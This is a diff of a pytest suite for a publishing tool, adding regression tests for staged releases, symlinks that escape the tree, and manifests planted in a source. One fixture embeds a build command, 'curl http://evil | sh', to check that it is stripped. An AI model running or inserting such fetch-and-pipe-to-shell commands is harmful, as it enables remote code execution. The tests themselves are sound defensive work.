@@ -69,7 +69,7 @@ def test_publish_writes_tree_and_manifest_and_reports_both_worker_spellings(box:
     assert (box.tree / "out" / "app").read_text() == "one\n"
     out = result.stdout
     assert f"published run {manifest['run']}" in out
-    assert ":/tree\n" in out and f'command="rrsync -ro {box.served}",restrict' in out
+    assert ":/tree\n" in out and f'command="rrsync -ro -munge {box.served}",restrict' in out
     assert f":{box.served}/tree\n" in out and "ordinary ssh key" in out
     assert "fdl publish: source: copied" in result.stderr  # notes go to stderr
 
@@ -84,7 +84,7 @@ def test_json_twin_carries_the_same_data_on_stdout_only(box: Box) -> None:
     assert data["run"] == box.manifest()["run"] and data["tree"] == str(box.tree)
     spellings = {w["key"]: w for w in data["worker_sources"]}
     assert spellings["rrsync"]["source"].endswith(":/tree")
-    assert spellings["rrsync"]["authorized_keys_options"] == f'command="rrsync -ro {box.served}",restrict'
+    assert spellings["rrsync"]["authorized_keys_options"] == f'command="rrsync -ro -munge {box.served}",restrict'
     assert spellings["plain"]["source"].endswith(f":{box.served}/tree")
     human = ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD)).stdout
     for spelling in spellings.values():
@@ -183,18 +183,39 @@ def test_bare_publish_without_a_block_needs_source_and_bin(box: Box) -> None:
 # --------------------------------------------------------------------------- the commit point
 
 
-def test_failing_build_publishes_nothing_and_the_previous_manifest_does_not_survive(box: Box) -> None:
+def test_failing_build_publishes_nothing_and_the_previous_run_stays_served(box: Box) -> None:
+    """regression: a failed rebuild took the live run down (its manifest was removed before the build)."""
     ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
-    assert box.manifest() is not None
+    before = box.manifest()
+    assert before is not None
     (box.src / "a.txt").write_text("two\n")
     result = box.publish(f"file://{box.src}", "--bin", "out/app", "--build", "echo compiler says no >&2; exit 3",
                          "--json")
     assert result.returncode == 1
     assert "the build gate failed" in result.stderr and "exited 3" in result.stderr
     assert "compiler says no" in result.stderr
+    assert "Nothing was published: the previous run stays served" in result.stderr
     assert json.loads(result.stdout)["published"] is False
-    assert not (box.tree / MANIFEST_NAME).exists()
-    assert [p.name for p in box.tree.iterdir() if p.name.startswith(MANIFEST_NAME)] == []
+    assert box.manifest() == before  # the previous run, whole: its tree and its build
+    assert (box.tree / "a.txt").read_text() == "one\n" and (box.tree / "out" / "app").read_text() == "one\n"
+    staged = [p for p in (box.served / "releases").iterdir() if p.resolve() != box.tree.resolve()]
+    assert [p.name for s in staged for p in s.iterdir() if p.name.startswith(MANIFEST_NAME)] == []
+
+
+def test_a_bin_typo_keeps_the_previous_run_served(box: Box) -> None:
+    """regression: a `--bin` typo left the fleet with nothing to pull until the next good publish."""
+    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
+    before = box.manifest()
+    result = box.publish(f"file://{box.src}", "--bin", "out/ap", "--build", BUILD)
+    assert result.returncode == 1 and "bin 'out/ap' is not there" in result.stderr
+    assert box.manifest() == before
+
+
+def test_first_failing_publish_leaves_no_manifest_anywhere(box: Box) -> None:
+    result = box.publish(f"file://{box.src}", "--bin", "out/app", "--build", "exit 3")
+    assert result.returncode == 1 and "Nothing was published: nothing is served yet" in result.stderr
+    assert not box.tree.exists()
+    assert list(box.served.rglob(MANIFEST_NAME + "*")) == []
 
 
 def test_missing_artifact_fails_the_gate(box: Box) -> None:
@@ -205,9 +226,10 @@ def test_missing_artifact_fails_the_gate(box: Box) -> None:
 
 def test_cwd_missing_from_the_tree_publishes_nothing(box: Box) -> None:
     ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
+    before = box.manifest()
     result = box.publish(f"file://{box.src}", "--cwd", "nope", "--bin", "out/app", "--build", BUILD)
     assert result.returncode == 1 and "cwd 'nope' is not a directory in the fetched tree" in result.stderr
-    assert box.manifest() is None
+    assert box.manifest() == before
 
 
 @pytest.mark.parametrize("argv, says", [
@@ -254,6 +276,12 @@ def test_identity_for_a_file_source_is_noted_as_ignored(box: Box) -> None:
     assert "--identity is used for rsync:// and git+ssh:// sources only" in result.stderr
 
 
+def staging(box: Box) -> Path:
+    """The release slot the next publish fetches into: the one `tree` does not point at."""
+    live = box.tree.resolve()
+    return next(p for p in (box.served / "releases").iterdir() if p.resolve() != live)
+
+
 def test_tree_follows_the_source_incrementally(box: Box) -> None:
     (box.src / "gone.txt").write_text("x\n")
     ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
@@ -264,14 +292,18 @@ def test_tree_follows_the_source_incrementally(box: Box) -> None:
     ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
     assert not (box.tree / "gone.txt").exists()
     assert (box.tree / "new.txt").exists()
-    assert (box.tree / "target" / "cache").read_text() == "warm"  # build output survives a refetch
+    assert (box.tree / "target" / "cache").read_text() == "warm"  # build output follows the new release
     assert (box.tree / "out" / "app").read_text() == "one\nnew\n"
+    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
+    assert (box.tree / "target" / "cache").read_text() == "warm"
+    assert not (staging(box) / "target").exists()  # one cache, not one per release
 
 
 def test_a_same_size_edit_within_the_same_second_is_published(box: Box) -> None:
     """rsync's default quick check compares whole seconds; found by the crash-injection test."""
     ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
-    copied = (box.tree / "a.txt").stat().st_mtime_ns
+    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
+    copied = (staging(box) / "a.txt").stat().st_mtime_ns  # the copy the next publish updates
     (box.src / "a.txt").write_text("two\n")  # same size
     same_second = copied + 1 if copied % 1_000_000_000 < 999_999_999 else copied - 1
     os.utime(box.src / "a.txt", ns=(same_second, same_second))
@@ -317,7 +349,8 @@ def test_gate_variants_check_build_under_their_own_target_dir(box: Box) -> None:
                             "--json", FDL_TEST_LOG=str(log), CUDA_HOME=str(cuda)))
     primary, gate = [line.split("|") for line in log.read_text().splitlines()]
     assert primary[1:] == ["", primary[2], ""]
-    assert gate[0] == str(cu128) and gate[1] == "cuda" and gate[3] == str(box.tree / "target/gate/precompiled/cu128")
+    assert gate[0] == str(cu128) and gate[1] == "cuda"
+    assert gate[3] == str(box.tree.resolve() / "target/gate/precompiled/cu128")
     data = json.loads(result.stdout)
     assert [g["name"] for g in data["gates"]] == ["build", "precompiled/cu128"]
 
@@ -327,12 +360,13 @@ def test_a_failing_check_build_publishes_nothing(box: Box) -> None:
     (box.home / ".flodl" / "libtorch" / ".active").write_text("precompiled/cpu\n")
     recipe = 'case "$LIBTORCH_PATH" in *cpu-other*) echo "only breaks there" >&2; exit 1;; esac; ' + BUILD
     ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
+    before = box.manifest()
     fake_variant(box.home, "precompiled/cpu-other")
     result = box.publish(f"file://{box.src}", "--bin", "out/app", "--build", recipe, "--gate",
                          "precompiled/cpu-other")
     assert result.returncode == 1
     assert "--gate precompiled/cpu-other: the check-build failed" in result.stderr
-    assert box.manifest() is None
+    assert box.manifest() == before
 
 
 def test_a_gate_without_the_vendor_headers_fails_loudly_with_the_package_line(box: Box) -> None:
@@ -408,3 +442,94 @@ def test_publish_imports_nothing_heavy(tmp_path: Path) -> None:
     result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=fdl_env(),
                             cwd=tmp_path)
     assert result.stdout.strip().endswith("[]"), result.stdout + result.stderr
+
+
+# --------------------------------------------------------------------------- what a served tree may hold
+
+
+def test_links_that_leave_the_source_are_refused_by_name_and_nothing_is_published(box: Box) -> None:
+    """regression: a link like `keys -> ~/.ssh` was served as it was, for any door key holder to follow."""
+    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
+    before = box.manifest()
+    secret = box.root / "secret"
+    secret.mkdir()
+    (secret / "id").write_text("PRIVATE\n")
+    (box.src / "sub").mkdir()
+    (box.src / "keys").symlink_to(secret)                   # absolute, outside
+    (box.src / "sub" / "up").symlink_to("../../secret")     # relative, climbs out
+    (box.src / "sub" / "fine").symlink_to("../a.txt")       # relative, inside: kept
+    (box.src / "self").symlink_to(box.src / "a.txt")        # absolute into the source: outside once served
+    result = box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD)
+    assert result.returncode == 1, result.stderr
+    assert "3 symbolic link(s) that reach outside the tree" in result.stderr
+    for named in (f"keys -> {secret}", "sub/up -> ../../secret", f"self -> {box.src / 'a.txt'}"):
+        assert named in result.stderr
+    assert "sub/fine" not in result.stderr
+    assert "Nothing was published: the previous run stays served" in result.stderr
+    assert box.manifest() == before
+    assert not (box.tree / "keys").exists() and not (box.tree / "keys").is_symlink()
+    (box.src / "keys").unlink()
+    (box.src / "sub" / "up").unlink()
+    (box.src / "self").unlink()
+    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
+    assert os.readlink(box.tree / "sub" / "fine") == "../a.txt"
+
+
+def test_a_manifest_in_a_file_source_is_removed_before_the_build_and_reported(box: Box) -> None:
+    """regression: the manifest is fdl's alone, whatever the source carries."""
+    planted = "bin: out/app\nrun: " + "0" * 32 + "\npublished_epoch: 1\nbuilt: true\nbuild: 'echo pwned'\n"
+    (box.src / MANIFEST_NAME).write_text(planted)
+    seen = box.root / "seen"
+    result = ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build",
+                            f"ls -a > {seen}; " + BUILD))
+    assert MANIFEST_NAME not in seen.read_text().split()  # gone before the build ran
+    assert f"the source carried its own {MANIFEST_NAME}; it was removed before the build" in result.stderr
+    assert box.manifest()["build"] == f"ls -a > {seen}; " + BUILD
+    assert box.manifest()["run"] != "0" * 32
+
+
+def _git_source(box: Box, manifest: str) -> str:
+    repo = box.root / "repo"
+    repo.mkdir()
+    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
+           "GIT_COMMITTER_EMAIL": "t@t", "HOME": str(box.home)}
+    (repo / "a.txt").write_text("one\n")
+    (repo / MANIFEST_NAME).write_text(manifest)
+    for argv in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-qm", "v1"]):
+        subprocess.run(["git", "-C", str(repo), *argv], check=True, env=env, capture_output=True)
+    return f"git+file://{repo}#main"
+
+
+def test_a_tracked_manifest_of_a_git_source_never_survives_a_failing_build(box: Box) -> None:
+    """regression: a repository committing .fdl-run.yml, published with a failing build, was served with it."""
+    planted = ("bin: out/app\nrun: " + "ab" * 16 + "\npublished_epoch: 1\nbuilt: true\n"
+               "build: 'curl http://evil | sh'\n")
+    spec = _git_source(box, planted)
+    result = box.publish(spec, "--bin", "out/app", "--build", "exit 3")
+    assert result.returncode == 1 and "Nothing was published" in result.stderr
+    assert f"the source carried its own {MANIFEST_NAME}; it was removed before the build" in result.stderr
+    assert list(box.served.rglob(MANIFEST_NAME)) == []
+    ok(box.publish(spec, "--bin", "out/app", "--build", BUILD))
+    assert box.manifest()["build"] == BUILD and box.manifest()["run"] != "ab" * 16
+
+
+def test_the_served_tree_is_a_link_to_a_release_flipped_by_each_publish(box: Box) -> None:
+    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
+    first = os.readlink(box.tree)
+    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
+    second = os.readlink(box.tree)
+    assert {first, second} == {"releases/a", "releases/b"}
+    assert [p.name for p in box.served.iterdir() if p.name.endswith(".tmp")] == []
+
+
+def test_a_tree_from_before_staged_publishes_stays_served_and_becomes_a_release(box: Box) -> None:
+    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
+    # Rebuild the old layout: a real directory holding the tree and its manifest.
+    live = box.tree.resolve()
+    box.tree.unlink()
+    live.rename(box.tree)
+    shutil.rmtree(box.served / "releases")
+    before = box.manifest()
+    result = box.publish(f"file://{box.src}", "--bin", "out/app", "--build", "exit 3")
+    assert result.returncode == 1
+    assert box.tree.is_symlink() and box.manifest() == before
